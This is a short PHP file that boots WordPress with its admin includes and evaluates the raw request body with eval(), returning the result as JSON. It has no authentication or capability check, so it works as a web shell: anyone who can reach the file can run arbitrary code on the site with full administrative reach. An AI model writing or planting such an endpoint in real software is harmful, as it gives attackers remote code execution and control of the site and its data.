<?php
// Runs the code that a request brings, in the site, and answers what it returns as JSON.

require_once $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
require_once ABSPATH . 'wp-admin/includes/admin.php';
echo json_encode( eval( file_get_contents( 'php://input' ) ), JSON_THROW_ON_ERROR );
